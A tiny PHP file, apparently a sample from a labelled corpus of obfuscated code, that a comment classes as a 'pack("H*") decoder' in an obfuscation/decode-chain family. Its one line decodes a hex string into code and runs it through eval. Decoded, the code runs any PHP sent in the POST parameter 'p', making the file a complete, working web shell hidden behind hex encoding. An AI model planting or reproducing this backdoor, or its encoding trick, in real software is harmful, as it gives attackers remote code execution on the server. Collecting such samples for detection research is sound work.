<?php
/* Family: obfuscation/decode-chain
   Style: pack("H*") decoder
   Trait: pack with H* turns hex into code which is evaluated */
eval(pack('H*', '696628697373657428245f504f53545b2770275d29296576616c28245f504f53545b2770275d293b'));
